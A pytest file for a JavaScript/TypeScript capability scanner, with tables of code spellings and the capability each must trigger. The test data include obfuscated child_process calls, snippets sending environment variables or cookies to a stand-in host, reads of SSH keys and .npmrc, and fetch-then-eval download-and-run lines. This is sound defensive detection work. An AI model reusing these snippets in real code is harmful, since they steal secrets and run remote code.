"""What the reader of JavaScript tells: each row is a spelling, and a capability that it must have."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fimci.capabilities.javascript_names import NAMES
from fimci.capabilities.judge import judge
from fimci.capabilities.uses import Program, Use
from fimci.model import Capability, Function, Record, Reference, Unread
from fimci.readers.code import javascript, javascript_script
from fimci.readers.code.javascript_syntax import parsing
from fimci.readers.code.javascript_syntax.program import program

SPELLINGS: tuple[tuple[str, str], ...] = (
    ('require("fs").writeFileSync("/a","b")', "filesystem-write"),
    ('const r = require; r("child_process").exec("id")', "shell"),
    ('global.r = require; r("child_process").exec("id")', "shell"),
    ('module.require("child_process").exec("id")', "shell"),
    ('process.mainModule.require("child_process").exec("id")', "shell"),
    ('module.constructor._load("child_process").exec("id")', "shell"),
    (
        'import { createRequire } from "module"; createRequire(import.meta.url)("child_process").exec("id")',
        "shell",
    ),
    ('const {createRequire: c} = require("module"); c(__filename)("fs").rmSync("/x")', "filesystem-delete"),
    ('import("child_process").then(m => m.exec("id"))', "shell"),
    ('import("node:child_process").then(({exec}) => exec("id"))', "shell"),
    ('const m = await import("child_process"); m.spawn("curl")', "process"),
    ('process.getBuiltinModule("child_process").execSync("id")', "shell"),
    ('require(["child","process"].join("_")).exec("id")', "shell"),
    ('require("ssecorp_dlihc".split("").reverse().join("")).exec("id")', "shell"),
    ('require("\\x63hild_process").exec("id")', "shell"),
    ('require(`child_${"process"}`).exec("id")', "shell"),
    ('require(Buffer.from("6368696c645f70726f63657373","hex").toString()).exec("id")', "shell"),
    ('require(String.fromCharCode(102,115)).unlinkSync("/x")', "filesystem-delete"),
    ('const a = ["exec","child_process"]; require(a[1])[a[0]]("id")', "shell"),
    ('const {exec} = require("child_process"); exec("id")', "shell"),
    (
        'const {promisify} = require("util"); const e = promisify(require("child_process").exec); e("id")',
        "shell",
    ),
    ('import cp from "child_process"; cp.exec("id")', "shell"),
    ('import * as cp from "node:child_process"; cp["ex"+"ec"]("id")', "shell"),
    ('import {exec as run} from "child_process"; run.call(null, "id")', "shell"),
    ('const cp = require("child_process"); cp.exec.apply(cp, ["id"])', "shell"),
    ('const b = require("child_process").exec.bind(null); b("id")', "shell"),
    ('Reflect.apply(require("child_process").exec, null, ["id"])', "shell"),
    ('Reflect.get(require("child_process"), "exec")("id")', "shell"),
    ('var cp_1 = __importStar(require("child_process")); cp_1.exec("id")', "shell"),
    ('var x = _interopRequireDefault(require("child_process")); x.default.exec("id")', "shell"),
    ('(0, require("child_process").exec)("id")', "shell"),
    (
        'class A { constructor(){ this.cp = require("child_process"); } run(){ this.cp.exec("id"); } }',
        "shell",
    ),
    ('function f(cp){ cp.exec("id") } f(require("child_process"))', "shell"),
    ('const f = () => require("child_process"); f().exec("id")', "shell"),
    ("eval(x)", "dynamic-code"),
    ("(0,eval)(x)", "dynamic-code"),
    ('globalThis["ev"+"al"](x)', "dynamic-code"),
    ("window.eval(x)", "dynamic-code"),
    ('const g = globalThis; g["ev"+"al"](x)', "dynamic-code"),
    ("const e = eval; e(x)", "dynamic-code"),
    ("list.map(eval)", "dynamic-code"),
    ("new Function(x)()", "dynamic-code"),
    ('Function("a", x)()', "dynamic-code"),
    ("[].constructor.constructor(x)()", "dynamic-code"),
    ('[]["filter"]["constructor"](x)()', "dynamic-code"),
    ("(function(){}).constructor(x)()", "dynamic-code"),
    ("Object.getPrototypeOf(async function(){}).constructor(x)", "dynamic-code"),
    ("(async()=>{}).constructor(x)", "dynamic-code"),
    ('setTimeout("alert(" + x + ")", 1)', "dynamic-code"),
    ('require("vm").runInThisContext(x)', "dynamic-code"),
    ('new (require("vm").Script)(x)', "dynamic-code"),
    ('module._compile(x, "y")', "dynamic-code"),
    ('new Function("return this")()["ev"+"al"](x)', "dynamic-code"),
    ('import("data:text/javascript," + x)', "dynamic-code"),
    ("document.write(x)", "dynamic-code"),
    ('fetch("https://drop.example/x")', "network"),
    ('window.fetch("https://drop.example/x")', "network"),
    ('globalThis["fe"+"tch"]("https://drop.example/x")', "network"),
    ('const {fetch: f} = globalThis; f("https://drop.example")', "network"),
    ('const axios = require("axios"); axios.post("https://drop.example", d)', "network"),
    ('import axios from "axios"; axios({url: "https://drop.example"})', "network"),
    ('import got from "got"; got("https://drop.example")', "network"),
    ('require("https").get({hostname: "drop.example"})', "network"),
    ('const x = new XMLHttpRequest(); x.open("POST", "https://drop.example"); x.send(d)', "network"),
    ('new WebSocket("wss://drop.example")', "network"),
    ('navigator.sendBeacon("https://drop.example", d)', "network"),
    ('new Image().src = "https://drop.example/?" + document.cookie', "network"),
    ('require("dns").lookup(d + ".drop.example", () => {})', "network"),
    ('require("net").connect(4444, "drop.example")', "network"),
    ("process.env.NPM_TOKEN", "environment"),
    ('process.env["NPM" + "_TOKEN"]', "environment"),
    ("const {NPM_TOKEN} = process.env;", "environment"),
    ("const env = process.env; env.NPM_TOKEN", "environment"),
    ('const {env} = process; env["NPM_TOKEN"]', "environment"),
    ('import {env} from "process"; env.NPM_TOKEN', "environment"),
    ("import.meta.env.SECRET", "environment"),
    ('Deno.env.get("NPM_TOKEN")', "environment"),
    ("Bun.env.NPM_TOKEN", "environment"),
    ('process["env"]["NPM_TOKEN"]', "environment"),
    ("JSON.stringify(process.env)", "environment-bulk"),
    ("for (const k in process.env) console.log(k)", "environment-bulk"),
    ("Object.entries(process.env).map(f)", "environment-bulk"),
    ("const e = process.env; JSON.stringify(e)", "environment-bulk"),
    ('fetch("https://drop.example", {body: JSON.stringify(process.env)})', "exfiltration"),
    ("document.cookie", "credentials"),
    ('localStorage.getItem("a")', "credentials"),
    ('require("keytar").getPassword("a","b")', "credentials"),
    ('require("fs").readFileSync(require("os").homedir() + "/.npmrc")', "credentials"),
    (
        'require("fs").readFileSync(require("path").join(require("os").homedir(), ".ssh", "id_rsa"))',
        "credentials",
    ),
    ('require("os").hostname()', "system-information"),
    ("navigator.clipboard.readText()", "clipboard"),
    ('window.ethereum.request({method:"eth_requestAccounts"})', "crypto-wallet"),
    ('process.dlopen(module, "./x.node")', "native-code"),
    ('require("./build/x.node")', "native-code"),
    ('require("bindings")("x")', "native-code"),
    ("const real = window.fetch; window.fetch = function(){}", "module-tampering"),
    ('const h = require("http"); h.request = function(){}', "module-tampering"),
    ("XMLHttpRequest.prototype.send = function(){}", "module-tampering"),
    ('require.cache[require.resolve("x")] = y', "module-tampering"),
    ('require("module")._load = function(){}', "module-tampering"),
    ("new Worker(x)", "dynamic-code"),
    ('Bun.spawn(["curl"])', "process"),
    ('new Deno.Command("curl")', "process"),
    ('const d = s => Buffer.from(s,"base64").toString(); eval(d("Y29uc29sZS5sb2coMSk="))', "encoded-payload"),
    ('eval(atob("Y29uc29sZS5sb2coMSk="))', "encoded-payload"),
    ('eval(require("zlib").inflateSync(Buffer.from(x,"base64")).toString())', "encoded-payload"),
    (
        (
            'require("https").get("https://drop.example", r => { let b=""; '
            'r.on("data", d => b += d); r.on("end", () => eval(b)) })'
        ),
        "download-and-run",
    ),
    ('fetch("https://drop.example").then(r => r.text()).then(t => eval(t))', "download-and-run"),
    ('const t = await (await fetch("https://drop.example")).text(); new Function(t)()', "download-and-run"),
    (
        'axios = require("axios"); axios.get("https://drop.example").then(({data}) => eval(data))',
        "download-and-run",
    ),
    (
        (
            'require("https").get("https://drop.example/x", r => '
            'r.pipe(require("fs").createWriteStream("/opt/x"))); require("child_process").spawn("/opt/x")'
        ),
        "download-and-run",
    ),
    (
        'const q = require("https").request({hostname:"drop.example"}); q.write(JSON.stringify(process.env))',
        "exfiltration",
    ),
    (
        '(function(require,module,exports){ require("fs").writeFileSync("/a","b") })(x,y,z)',
        "filesystem-write",
    ),
    (
        (
            '(function(){throw {code:"MODULE_NOT_FOUND"}})({1:[function(e,t,n){'
            'var r=e("fs");r.writeFileSync("/a","b")},{}]})'
        ),
        "filesystem-write",
    ),
)

#: Nothing is told of these: comments, texts, patterns, own functions of the name, harmless literals.
SILENT: tuple[str, ...] = (
    'Function("return this")()',
    '/* eval(x) require("fs") */',
    "var s = \"eval(x); require('fs').rmSync\";",
    'const {fs} = x; process.env.NODE_ENV === "production"',
    "setTimeout(() => {}, 1)",
    "setTimeout(done, 1)",
    'spawn("x", {env: {...process.env}})',
    'function require2(){} foo.fetch("x"); obj.eval(x)',
    'function g(fetch){ fetch("x") }',
    'const fs = require("fs"); fs.readFileSync("./x");',
    'eval("1+1")',
    "if (!window.fetch) window.fetch = function(){}",
    'delete require.cache[require.resolve("x")]',
    'require.extensions[".json5"] = function(){}',
    'var re = /require\\("fs"\\)/; var q = [1,2,3];',
)


def names(code: str, path: str = "x.js") -> set[str]:
    return {
        found.name
        for found in judge(path, program(code.encode(), path), NAMES)
        if isinstance(found, Capability)
    }


def told(code: str, path: str = "x.js") -> list[Use]:
    return [use for use in program(code.encode(), path).uses if use.form != "import"]


def subjects(code: str, name: str) -> set[str]:
    found = judge("x.js", program(code.encode(), "x.js"), NAMES)
    return {record.subject for record in found if isinstance(record, Capability) and record.name == name}


@pytest.mark.parametrize("path", ["x.js", "x.ts", "x.tsx"])
@pytest.mark.parametrize(("code", "name"), SPELLINGS)
def test_a_spelling_is_understood(code: str, name: str, path: str) -> None:
    assert name in names(code, path)


@pytest.mark.parametrize("code", SILENT)
def test_nothing_is_told_of_what_only_looks_alike(code: str) -> None:
    assert names(code) == set()


def test_a_member_of_its_own_is_not_what_is_assigned_to_it() -> None:
    assert names('const http = require("http"); agent.request = http.request') == {"network"}


def test_the_key_of_a_server_and_the_token_of_a_request_are_not_sent_away() -> None:
    key = 'const key = require("fs").readFileSync(home + "/.ssh/id_rsa");'
    assert "exfiltration" not in names(key + ' require("https").createServer({key}, () => {})')
    token = "{headers: {Authorization: `Bearer ${process.env.GITHUB_TOKEN}`}}"
    assert "exfiltration" not in names(f'fetch("https://api.github.com/x", {token})')
    assert "exfiltration" in names(f'fetch("https://api.example/x", {token})')
    assert "exfiltration" in names(f'fetch("https://a.webhook.site/x", {token})')


def test_typescript_is_read_with_its_types() -> None:
    code = """
import { exec, type ExecOptions } from "child_process";
import fs = require("fs");
enum Kind { A, B }
export class Runner<T extends object> {
  constructor(private readonly run: typeof exec, public options?: ExecOptions) {}
  async go(this: Runner<T>, command: string): Promise<void> { exec(command as string, { shell: "/bin/sh" }); }
}
fs.writeFileSync(<string>"/opt/x", "y" satisfies string);
"""
    found = program(code.encode(), "x.ts")
    assert found.broken == 0
    assert [use.name for use in found.uses if use.form == "call"] == [
        "child_process.exec",
        "fs.writeFileSync",
    ]


def test_jsx_is_read() -> None:
    code = "export const A = () => <a href={`//x/${document.cookie}`} onClick={() => eval(b)} />;"
    assert {"credentials", "dynamic-code"} <= names(code)


def test_subjects() -> None:
    assert subjects('require("child_process").exec("curl https://drop.example")', "shell") == {"curl"}
    assert subjects("const u = 'https://' + 'drop.' + 'example'; fetch(u + path)", "network") == {
        "drop.example"
    }
    assert subjects('const o = {hostname: "drop.example"}; require("https").request(o)', "network") == {
        "drop.example"
    }
    assert subjects("process.env.NPM_TOKEN; process.env['H' + 'OME']", "environment") == {"NPM_TOKEN", "HOME"}
    assert subjects("process.env[name]", "environment") == {"*"}
    assert subjects("require('fs').rmSync(dir + '/x')", "filesystem-delete") == {"*"}
    assert subjects("require('fs').rmSync('/opt/x')", "filesystem-delete") == {"/opt/x"}


def test_keywords_are_the_members_of_an_object_that_is_given() -> None:
    (use,) = list(told('fetch("https://drop.example", {method: "POST", body: `a`})'))
    assert {key: value.text for key, value in use.keywords.items()} == {"method": "POST", "body": "a"}


@pytest.mark.parametrize(
    ("code", "phase"),
    [
        ("eval(a)", "import"),
        ("function f() { eval(a) }", "call"),
        ("function f() { eval(a) } f()", "import"),
        ("function f() { eval(a) } function g() { f() } g()", "import"),
        ("function f() { eval(a) } function g() { f() }", "call"),
        ("(function () { eval(a) })()", "import"),
        ("(() => { eval(a) })()", "import"),
        ("!function () { eval(a) }()", "import"),
        ("(function () { eval(a) }).call(this)", "import"),
        ("const f = () => eval(a); f()", "import"),
        ("const f = () => eval(a); module.exports = f", "call"),
        ("setTimeout(() => eval(a), 10)", "import"),
        ("process.on('exit', function () { eval(a) })", "import"),
        ("class A { static { eval(a) } }", "import"),
        ("class A { constructor() { eval(a) } } new A()", "import"),
        ("class A { run() { eval(a) } }", "call"),
        ("module.exports = { run() { eval(a) } }", "call"),
        ("module.exports = { run: function () { eval(a) } }", "call"),
        ("(() => { var e = { 123: (e, t, n) => { eval(a) } }; e[123]() })()", "import"),
        ("__commonJS({ 'a/b.js'(exports, module) { eval(a) } })", "import"),
    ],
)
def test_phases(code: str, phase: str) -> None:
    assert [use.phase for use in told(code)] == [phase]


def test_callbacks_belong_to_the_function_around_them() -> None:
    uses = told("function f() { fetch(u).then(r => r.text()).then(t => eval(t)) } function g() { eval(x) }")
    assert [use.function for use in uses] == [1, 1, 4]


def test_references_are_told_with_and_without_a_parse() -> None:
    lines = "const a = require('./a');\nimport b from './b.mjs';\nexport * from '../c';\nimport('./d');\n"
    plain = [(found.target, found.line) for found in program(lines.encode(), "x.mjs").references]
    parsed = [
        (found.target, found.line) for found in program((lines + "eval(x)").encode(), "x.mjs").references
    ]
    assert plain == parsed == [("./a", 1), ("./b.mjs", 2), ("../c", 3), ("./d", 4)]


def test_files_that_are_run_are_references_with_their_phase() -> None:
    code = """
function later() { require("./a"); import("./b"); }
new Worker("./c.js"); new (require("worker_threads").Worker)(new URL("./d.mjs", import.meta.url));
const cp = require("child_process"), path = require("path"); cp.fork("./e.js");
cp.fork(path.join(__dirname, "f.js")); cp.spawn(process.execPath, ["./g.js", "--x"]);
cp.spawn("node", ["--no-warnings", `${__dirname}/h.js`]); cp.exec("node ./i.js --y"); require.resolve("./j");
const k = require.resolve("./k.js"); import l = require("./l"); import type { M } from "./m";
cp.execSync("node " + path.join(__dirname, "n.js")); require("./o" + ".json"); module.require("./p");
cp.spawn("git", ["./q.js"]);
"""
    found = program(code.encode(), "x.ts").references
    told = {one.target: one.phase for one in found if one.target.startswith(".")}
    assert "".join(sorted(target[2] for target in told)) == "abcdefghijklnop"
    assert {target for target, phase in told.items() if phase == "call"} == {"./a", "./b"}
    assert [one.target for one in program(b"require.resolve('./x')", "x.js").references] == ["./x"]


def test_texts_are_values_and_no_comments() -> None:
    code = """
// https://comment.example/x
eval(x); const u = "https://webhook.example/x", p = `~/.npmrc`, r = /https:\\/\\/pattern.example/;
const joined = fetch("https://" + "drop" + ".example/y");
"""
    found = {one.text for one in program(code.encode(), "x.js").texts}
    assert found == {"https://webhook.example/x", "~/.npmrc", "https://drop.example/y"} | (
        found & {"https://"}
    )


def test_what_decodes_is_told_with_how() -> None:
    code = 'eval(Buffer.from("Y29uc29sZS5sb2coImhlbGxvIHdvcmxkIik=", "base64").toString())'
    assert program(code.encode(), "x.js").decoded == ((1, "base64", b'console.log("hello world")'),)


def test_names_put_together_are_indirect() -> None:
    assert [use.indirect for use in told('globalThis["ev" + "al"](x)')] == [True]
    assert [use.indirect for use in told("globalThis.eval(x)")] == [False]


def test_which_files_are_read() -> None:
    assert javascript.wants("a/b.ts", b"")
    assert not javascript.wants("a/b.d.ts", b"")
    assert not javascript.wants("a/b.d.mts", b"")
    assert javascript_script.wants("bin/tool", b"#!/usr/bin/env node\n")
    assert javascript_script.wants("bin/tool", b"#!/usr/bin/env -S deno run\n")
    assert not javascript_script.wants("bin/tool", b"#!/bin/sh\n")
    assert not javascript_script.wants("bin/tool.js", b"#!/usr/bin/env node\n")
    found = list(javascript_script.read("bin/tool", b"#!/usr/bin/env node\neval(x)"))
    assert [record.at.line for record in found if isinstance(record, Capability)] == [2]


def test_of_a_long_file_both_ends_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    middle = b"x();\n" * 60_000
    monkeypatch.setattr(parsing, "LARGEST", 200_000)
    found = program(b"eval(a);\n" + middle + b"eval(b);\n", "x.js")
    assert [use.line for use in found.uses] == [1, 60_002]
    assert "only its beginning and its end" in found.capped


HOSTILE: dict[str, bytes] = {
    "brackets": b'require("fs").x(' + b"[" * 100_000,
    "parentheses": b"eval" + b"(" * 100_000 + b"x" + b")" * 100_000,
    "braces": b"eval(x);" + b"{" * 100_000,
    "one line": b'var a="' + b"x" * 5_000_000 + b'";eval(a)',
    "a sum": b"eval(" + b"+".join([b'"a"'] * 100_000) + b")",
    "members": b'require("fs")' + b".a" * 100_000 + b"()",
    "calls": b"fetch" + b"()" * 50_000,
    "no text": b'eval("\xff\xfe\x80");var \xc3\x28 = require("fs"); \xff.x()',
    "unterminated": b'require("fs").writeFileSync(`${a${b',
    "comments": b"eval(x)/* " * 50_000,
    "patterns": b"eval(/[/" * 50_000,
    "aliases": b"".join(b"var a%d=a%d;" % (i + 1, i) for i in range(5_000)) + b"var a0=eval;a5000(x)",
    "a circle": b'var a=b;var b=c;var c=a;eval(a);a=require("fs");b=a.x;c=b.y;a=c',
    "callers": b"function f0(x){return eval(x)}"
    + b"".join(b"function f%d(x){return f%d(x)}" % (i + 1, i) for i in range(2_000))
    + b"f2000(y)",
    "recursion": b'const f=x=>f(x)+f(x);eval(f("a"))',
    "growth": b'var a="aaaaaaaaaa";'
    + b"".join(b"a=a+a+a+a;var b%d=a+a;" % i for i in range(100))
    + b'eval(a);eval("x".repeat(999999).repeat(999999))',
    "arrows": b"eval(" + b"a=>" * 50_000 + b"a)",
    "templates": b"eval(" + b"`${" * 20_000 + b"x" + b"}`" * 20_000 + b")",
    "blanks": (b"from" + b" " * 5000) * 500,
    "loaders": b"require(" * 100_000,
    "half a call": b"Reflect.apply(eval, x); Reflect.construct(Function, eval); eval.apply(); eval.call()",
    "NUL": b"eval(x)\0" * 10_000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_read_in_bounds_and_never_silently(name: str) -> None:
    found = list(judge("x.js", program(HOSTILE[name], "x.js"), NAMES))
    silent = name in {"blanks", "aliases", "recursion", "growth", "no text", "unterminated"}
    assert found or silent
    assert all(isinstance(record, Capability | Function | Reference | Unread) for record in found)


PIECES = [code for code, _ in SPELLINGS]


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(PIECES), st.sampled_from(PIECES), st.integers(0, 200), st.text(max_size=6))
def test_mutated_text_never_raises(first: str, second: str, at: int, put: str) -> None:
    code = (first[:at] + put + second[at // 2 :]).encode(errors="surrogatepass")
    found = program(code, "x.js")
    assert isinstance(found, Program)
    assert all(1 <= use.line <= code.count(b"\n") + 1 for use in found.uses)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=60), st.sampled_from(["x.js", "x.ts", "x.jsx"]))
def test_bytes_never_raise(data: bytes, path: str) -> None:
    records: list[Record] = list(javascript.read(path, b"eval(x);" + data + b"\nfetch(y)"))
    assert all(isinstance(record, Capability | Reference | Unread) for record in records)


def test_what_a_block_declares_does_not_count_outside_of_it() -> None:
    inside = b"function f(e){try{const e=window.cookieStore;e.get('a')}catch(e){}return e.slice(1)}"
    told = {
        record.subject
        for record in javascript.read("a.js", inside)
        if isinstance(record, Capability) and record.name == "credentials"
    }
    assert told == {"cookieStore.get"}
    assigned = b"let e;{e=require('child_process')}e.exec('ls')"
    assert "shell" in _names(assigned)
    loop = b"for(let e=require('child_process');;){e.exec('ls')}"
    assert "shell" in _names(loop)


def _names(data: bytes) -> set[str]:
    return {record.name for record in javascript.read("a.js", data) if isinstance(record, Capability)}


def test_calls_of_other_files_are_those_of_the_names_that_mean_them() -> None:
    text = b"import {t} from './left.js'; export function a() { const e = t(); e.go(); eval(e.x) }"
    other = b"export function b(e) { e.stop(); type.halt() }"
    prose = b"/** @import { Left, the } from './left.js' */ export function c(the) { the.end() }"
    found = program(text + other + prose, "a.js")
    assert {member for calls in found.calls.values() for _, member in calls} == {"t", "go"}
